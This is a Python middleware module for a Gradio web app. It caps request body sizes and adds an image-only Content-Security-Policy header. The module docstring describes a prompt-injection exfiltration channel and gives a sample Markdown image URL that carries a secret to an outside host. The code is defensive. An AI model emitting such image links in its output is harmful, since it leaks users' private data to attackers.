"""HTTP-level guards for the whole app (page and API on one port).

- ``BodyLimit``: the page's Gradio routes take a JSON body per event; a 10 MB message must be
  refused before Gradio parses it, with the same cap the API applies to its bodies (413).
  Uploads (``/gradio_api/upload``) have their own size limit, set on the Gradio mount.
- ``ContentSecurity``: model output is untrusted. A Markdown image in an answer
  (``![x](http://host/?secret=…)``) would make the browser fetch that URL — a prompt-injection
  exfiltration channel — so pages may load images only from this server or inline data.
"""

from __future__ import annotations

import json

from starlette.types import ASGIApp, Message, Receive, Scope, Send

__all__ = ["CONTENT_SECURITY_POLICY", "BodyLimit", "ContentSecurity"]

# Only images are restricted: Gradio's own scripts, styles and fonts are served from 'self'
# already, and a stricter default-src would break its inline styles.
CONTENT_SECURITY_POLICY = "img-src 'self' data: blob:"
_GUARDED_PREFIX = "/gradio_api/"
_UNLIMITED = ("/gradio_api/upload",)


class BodyLimit:
    """Refuses request bodies over ``max_bytes`` on the page's Gradio routes with 413."""

    def __init__(self, app: ASGIApp, *, max_bytes: int) -> None:
        self.app = app
        self.max_bytes = max_bytes

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        path = scope.get("path", "")
        if (
            scope["type"] != "http"
            or not path.startswith(_GUARDED_PREFIX)
            or path.startswith(_UNLIMITED)
        ):
            await self.app(scope, receive, send)
            return
        declared = dict(scope.get("headers", [])).get(b"content-length")
        if declared is not None and declared.isdigit():
            if int(declared) > self.max_bytes:
                await self._refuse(send)
            else:
                await self.app(scope, receive, send)
            return
        # No Content-Length (chunked): read the body here, at most max_bytes, then replay it.
        # Gradio's event bodies are small, so holding one costs nothing.
        body = bytearray()
        more = True
        while more:
            message = await receive()
            if message["type"] != "http.request":
                return  # the client went away
            body += message.get("body", b"")
            more = message.get("more_body", False)
            if len(body) > self.max_bytes:
                await self._refuse(send)
                return
        replayed = False

        async def replay() -> Message:
            nonlocal replayed
            if replayed:
                return await receive()
            replayed = True
            return {"type": "http.request", "body": bytes(body), "more_body": False}

        await self.app(scope, replay, send)

    async def _refuse(self, send: Send) -> None:
        body = json.dumps(
            {
                "error": {
                    "code": "body_too_large",
                    "message": f"the request body exceeds {self.max_bytes} bytes",
                }
            }
        ).encode()
        await send(
            {
                "type": "http.response.start",
                "status": 413,
                "headers": [
                    (b"content-type", b"application/json"),
                    (b"content-length", str(len(body)).encode()),
                ],
            }
        )
        await send({"type": "http.response.body", "body": body})


class ContentSecurity:
    """Adds the image policy to every HTML response (the page and the widget)."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return

        async def with_policy(message: Message) -> None:
            if message["type"] == "http.response.start":
                headers = list(message.get("headers", []))
                kind = dict(headers).get(b"content-type", b"")
                if kind.startswith(b"text/html"):
                    headers.append((b"content-security-policy", CONTENT_SECURITY_POLICY.encode()))
                    message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, with_policy)
